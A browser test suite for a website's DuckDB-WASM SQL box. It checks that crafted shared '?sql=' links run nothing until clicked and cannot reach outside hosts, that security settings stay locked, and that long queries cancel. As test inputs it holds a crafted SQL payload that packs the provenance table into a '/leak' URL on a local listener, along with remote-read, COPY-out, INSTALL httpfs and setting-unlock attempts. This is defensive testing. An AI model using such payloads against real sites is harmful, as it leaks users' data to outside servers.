/**
 * Readers of shared `?sql=` links, in the built site (dist/) in headless Chromium, with
 * the real DuckDB-WASM: a crafted link that would send the workspace to a local listener
 * (or show that server's rows) fills the box and runs nothing until clicked; clicked, it
 * makes no request (external access is off and locked) and the box shows DuckDB's error;
 * the workspace tables still answer; the settings cannot be turned back on; extensions are
 * not fetched; a query that runs too long stops on Cancel or after 30 s and the box is
 * usable again; the URL's `sql` is written only after a query succeeds.
 */
import { existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { REPO_ROOT } from "../../loaders/paths.js";
import { launchBrowser } from "../helpers/browser.js";
import { serveDir, type StaticServer } from "../helpers/server.js";

// SQL_SECURITY_DIST points the tests at another build (to check them against an older sqlBox).
const DIST = process.env.SQL_SECURITY_DIST ?? join(REPO_ROOT, "dist");

let server: StaticServer;
let browser: Browser;
/** A server that is not the site: it records every request, and answers with rows anyone may read. */
let listener: Server;
let listenerUrl: string;
const hits: string[] = [];

interface Watched {
  page: Page;
  errors: string[];
  outside: string[];
}

async function open(path: string): Promise<Watched> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const errors: string[] = [];
  const outside: string[] = [];
  page.on("console", (m) => {
    if (m.type() === "error") errors.push(m.text());
  });
  page.on("pageerror", (e) => errors.push(e.message));
  page.on("request", (r) => {
    const url = r.url();
    if (!url.startsWith(server.url) && !url.startsWith("blob:") && !url.startsWith("data:")) outside.push(url);
  });
  await page.goto(server.url + path);
  await page.waitForSelector(".sql-box textarea", { timeout: 60_000 });
  return { page, errors, outside };
}

const idle = (page: Page, timeout = 90_000) => page.waitForFunction(() => !document.querySelector(".sql-box")?.hasAttribute("aria-busy"), null, { timeout });
const status = async (page: Page) => (await page.textContent(".sql-box .sql-status")) ?? "";
const output = async (page: Page) => (await page.textContent(".sql-box .sql-output")) ?? "";
const runButton = (page: Page) => page.locator(".sql-box button").first();
const cancelButton = (page: Page) => page.getByRole("button", { name: "Cancel", exact: true });
const sqlInUrl = (page: Page) => new URL(page.url()).searchParams.get("sql");
/** The result table's cells, leaving out the empty selection column. */
const cells = (page: Page) => page.$$eval(".sql-output td", (tds) => tds.map((td) => td.textContent ?? "").filter((t) => t.trim() !== ""));

/** Types `sql` into the box, clicks Run and waits until the box is idle again. */
async function runSql(page: Page, sql: string): Promise<{ status: string; output: string }> {
  await page.fill(".sql-box textarea", sql);
  await runButton(page).click();
  await idle(page);
  return { status: await status(page), output: await output(page) };
}

beforeAll(async () => {
  if (!existsSync(join(DIST, "index.html"))) throw new Error("dist/ is missing: run `npm run build` before the browser tests");
  listener = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/csv" });
    res.end(req.method === "HEAD" ? undefined : "who,what\nattacker-row,1\n");
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await serveDir(DIST);
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

beforeEach(() => {
  hits.length = 0;
});

describe("readers of shared ?sql= links", () => {
  it("a crafted ?sql= link makes no request to a local listener and runs nothing until clicked", async () => {
    // The attack: put the provenance table in a URL and read that URL.
    const crafted = `SET VARIABLE d = (SELECT string_agg(key || '=' || value, ',') FROM provenance); SELECT * FROM read_text('${listenerUrl}/leak?d=' || getvariable('d'))`;
    const { page, errors, outside } = await open(`/explore?sql=${encodeURIComponent(crafted)}`);
    await page.waitForLoadState("networkidle");
    await page.waitForTimeout(4_000);
    expect(hits).toEqual([]);
    expect(await page.inputValue(".sql-box textarea")).toBe(crafted);
    expect(await output(page)).toBe("");
    expect(await status(page)).toMatch(/came with the link.*Nothing runs until you do/);
    // DuckDB has not even started: no worker.
    expect(page.workers()).toHaveLength(0);

    // Clicked, it runs, and fails: external access is off.
    await runButton(page).click();
    await idle(page);
    await page.waitForTimeout(1_000);
    expect(hits).toEqual([]);
    expect(await output(page)).toMatch(/The query failed: Permission Error: .*disabled/);

    // The workspace tables still answer.
    const counted = await runSql(page, "SELECT count(*) AS n FROM responses");
    expect(counted.status).toMatch(/^1 row in/);
    expect(Number((await cells(page))[0]?.replace(/,/g, ""))).toBeGreaterThan(0);

    // Another server's rows are not shown inside the site, whatever the reader.
    for (const sql of [
      `SELECT * FROM read_csv('${listenerUrl}/rows.csv')`,
      `SELECT * FROM '${listenerUrl}/rows.csv'`,
      `SELECT * FROM read_blob('${listenerUrl}/blob')`,
      `SELECT * FROM glob('${listenerUrl}/*')`,
      `COPY (SELECT * FROM provenance) TO '${listenerUrl}/copy.csv'`,
    ]) {
      const { output: shown } = await runSql(page, sql);
      expect(shown, sql).toMatch(/The query failed: Permission Error/);
      expect(shown, sql).not.toContain("attacker-row");
    }
    // A reader that lives in an extension is not fetched (autoloading is off).
    expect((await runSql(page, `SELECT * FROM read_json('${listenerUrl}/j.json')`)).output).toMatch(/The query failed: Catalog Error: .*json extension/);
    // INSTALL and LOAD are refused.
    expect((await runSql(page, "INSTALL httpfs")).output).toMatch(/The query failed: INSTALL is turned off here/);
    expect((await runSql(page, "LOAD httpfs")).output).toMatch(/The query failed: LOAD is turned off here/);
    // And the settings cannot be turned back on.
    for (const sql of [
      "SET enable_external_access = true",
      "RESET enable_external_access",
      "SET lock_configuration = false",
      "SET autoload_known_extensions = true",
    ]) {
      expect((await runSql(page, sql)).output, sql).toMatch(/The query failed: .*(locked|Cannot change)/);
    }
    await runSql(page, "SELECT current_setting('enable_external_access') AS external, current_setting('lock_configuration') AS locked");
    expect(await cells(page)).toEqual(["false", "true"]);

    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
    expect(outside).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });

  it("a query that runs too long stops on Cancel, and the box is usable again", async () => {
    const { page, errors } = await open("/explore");
    // (The issue's range(1e14) is a DOUBLE, which DuckDB 1.1's range refuses at once; this one runs.)
    const endless = "SELECT count(*) AS n FROM range(100000000000000)";
    await page.fill(".sql-box textarea", endless);
    await runButton(page).click();
    await page.waitForFunction(() => /^Running… \(stops after 30 s\)/.test(document.querySelector(".sql-status")?.textContent ?? ""), null, {
      timeout: 90_000,
    });
    await page.waitForTimeout(1_500);
    const asked = Date.now();
    await cancelButton(page).click();
    await idle(page, 15_000);
    expect(Date.now() - asked).toBeLessThan(10_000);
    expect(await status(page)).toBe("Cancelled.");
    expect(await output(page)).toContain("The query was cancelled.");
    expect(sqlInUrl(page)).toBeNull();
    expect((await runSql(page, "SELECT 1 AS one")).status).toMatch(/^1 row in/);

    // Several statements run in one uninterruptible call: Cancel ends DuckDB's worker, and the next query reopens it.
    await page.fill(".sql-box textarea", `SELECT 1; ${endless}`);
    await runButton(page).click();
    await page.waitForFunction(() => /^Running…/.test(document.querySelector(".sql-status")?.textContent ?? ""), null, { timeout: 30_000 });
    await page.waitForTimeout(1_000);
    await cancelButton(page).click();
    await idle(page, 15_000);
    expect(await status(page)).toBe("Cancelled.");
    const again = await runSql(page, "SELECT count(*) AS n FROM responses");
    expect(again.status).toMatch(/^1 row in .*DuckDB loaded in/);
    // The ended worker leaves the page's list when Chromium reports it closed, which can lag under load.
    await expect.poll(() => page.workers().length, { timeout: 10_000 }).toBe(1);
    expect(errors).toEqual([]);
    await page.close();
  });

  it("a query that runs past 30 s is stopped, and the box says so", async () => {
    const { page, errors } = await open("/explore");
    expect(await page.textContent(".sql-box .sql-note")).toContain("stop after 30 s");
    const started = Date.now();
    const { status: said, output: shown } = await runSql(page, "SELECT count(*) AS n FROM range(100000000000000)");
    expect(Date.now() - started).toBeGreaterThanOrEqual(30_000);
    expect(said).toBe("Stopped after 30 s: the query ran too long.");
    expect(shown).toContain("Stopped after 30 s");
    expect(sqlInUrl(page)).toBeNull();
    expect((await runSql(page, "SELECT 2 AS two")).status).toMatch(/^1 row in/);
    expect(errors).toEqual([]);
    await page.close();
  });

  it("?sql= appears in the URL only after a query succeeds", async () => {
    const { page, errors } = await open("/explore");
    expect((await runSql(page, "SELECT * FROM no_such_table")).output).toMatch(/The query failed: Catalog Error/);
    expect(sqlInUrl(page)).toBeNull();
    const good = "SELECT count(*) AS n FROM provenance";
    expect((await runSql(page, good)).status).toMatch(/^1 row in/);
    expect(sqlInUrl(page)).toBe(good);
    // A failing query afterwards leaves the last one that ran, so a reload shows that one, and runs nothing.
    await runSql(page, "SELECT * FROM still_no_such_table");
    expect(sqlInUrl(page)).toBe(good);
    await page.reload();
    await page.waitForSelector(".sql-box textarea");
    await page.waitForTimeout(2_000);
    expect(await page.inputValue(".sql-box textarea")).toBe(good);
    expect(await output(page)).toBe("");
    expect(page.workers()).toHaveLength(0);
    expect(errors).toEqual([]);
    await page.close();
  });
});
